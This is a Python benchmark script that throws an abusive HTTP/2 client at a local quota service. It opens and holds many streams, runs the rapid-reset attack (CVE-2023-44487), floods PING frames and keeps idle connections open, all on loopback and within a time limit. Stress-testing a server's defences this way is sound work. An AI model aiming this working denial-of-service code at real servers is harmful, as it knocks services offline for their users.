#!/usr/bin/env python3
"""One abusive HTTP/2 client against a quotad on loopback, for scripts/bench-abuse.sh (a benchmark, not a test).

Runs, all at once, for --seconds:
  - streams: one connection that opens --streams streams (HEADERS for Acquire, never sending the body) and
    keeps them open;
  - resets: a connection that opens a stream and resets it at once, in a loop (rapid reset, CVE-2023-44487);
  - pings: a connection that sends PING frames as fast as the socket takes them and never reads the ACKs;
  - idle: --idle connections that send the HTTP/2 preface and SETTINGS, then nothing.
Prints what each part managed (how far the server let it go) as one JSON line. Loopback only; every loop is
bounded by --seconds.
"""

import argparse
import json
import socket
import threading
import time

import h2.config
import h2.connection
import h2.events
import h2.exceptions

HEADERS = [
    (":method", "POST"),
    (":scheme", "http"),
    (":path", "/quotad.v1.QuotaService/Acquire"),
    (":authority", "quotad"),
    ("content-type", "application/grpc"),
    ("te", "trailers"),
]


def connect(port):
    # From 127.0.0.2: another address than the measured client's, as another machine would be.
    sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=("127.0.0.2", 0))
    conn = h2.connection.H2Connection(config=h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def streams(port, n, deadline, out):
    """Opens up to n streams on one connection and holds them."""
    sock, conn = connect(port)
    sock.settimeout(0.2)
    opened, refused = 0, 0
    try:
        for _ in range(n):
            if time.time() > deadline:
                break
            try:
                conn.send_headers(conn.get_next_available_stream_id(), HEADERS)
                opened += 1
            except h2.exceptions.TooManyStreamsError:
                refused += 1
                break
            sock.sendall(conn.data_to_send())
        while time.time() < deadline:
            try:
                data = sock.recv(65536)
                if not data:
                    break
                for e in conn.receive_data(data):
                    if isinstance(e, h2.events.StreamReset):
                        refused += 1
                sock.sendall(conn.data_to_send())
            except socket.timeout:
                pass
    except (OSError, h2.exceptions.ProtocolError) as e:
        out["streams_error"] = type(e).__name__
    out["streams_opened"], out["streams_refused"] = opened, refused


def resets(port, deadline, out):
    """Opens and resets streams as fast as possible; reconnects when the server closes the connection."""
    sent, connections = 0, 0
    while time.time() < deadline:
        try:
            sock, conn = connect(port)
            connections += 1
            while time.time() < deadline:
                sid = conn.get_next_available_stream_id()
                conn.send_headers(sid, HEADERS)
                conn.reset_stream(sid)
                sock.sendall(conn.data_to_send())
                sent += 1
        except (OSError, h2.exceptions.ProtocolError, h2.exceptions.StreamIDTooLowError):
            time.sleep(0.01)
    out["resets_sent"], out["resets_connections"] = sent, connections


def pings(port, deadline, out):
    """Sends PINGs without reading the ACKs; reconnects when the server closes the connection."""
    sent, connections = 0, 0
    while time.time() < deadline:
        try:
            sock, conn = connect(port)
            connections += 1
            sock.settimeout(1)
            while time.time() < deadline:
                conn.ping(sent.to_bytes(8, "big"))
                sock.sendall(conn.data_to_send())
                sent += 1
        except (OSError, h2.exceptions.ProtocolError):
            time.sleep(0.01)
    out["pings_sent"], out["pings_connections"] = sent, connections


def idle(port, n, deadline, out):
    """Opens n connections that send the preface and then nothing."""
    socks = []
    for _ in range(n):
        try:
            socks.append(connect(port)[0])
        except OSError:
            break
    out["idle_opened"] = len(socks)
    while time.time() < deadline:
        time.sleep(0.1)
    out["idle_still_open"] = sum(1 for s in socks if still_open(s))
    for s in socks:
        s.close()


def still_open(sock):
    sock.setblocking(False)
    try:
        return sock.recv(1, socket.MSG_PEEK) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--seconds", type=float, default=10)
    p.add_argument("--streams", type=int, default=1000)
    p.add_argument("--idle", type=int, default=200)
    args = p.parse_args()
    deadline = time.time() + args.seconds
    out = {}
    parts = [
        threading.Thread(target=streams, args=(args.port, args.streams, deadline, out)),
        threading.Thread(target=resets, args=(args.port, deadline, out)),
        threading.Thread(target=pings, args=(args.port, deadline, out)),
        threading.Thread(target=idle, args=(args.port, args.idle, deadline, out)),
    ]
    for t in parts:
        t.start()
    for t in parts:
        t.join(timeout=args.seconds + 30)
    print(json.dumps(out, sort_keys=True))


if __name__ == "__main__":
    main()
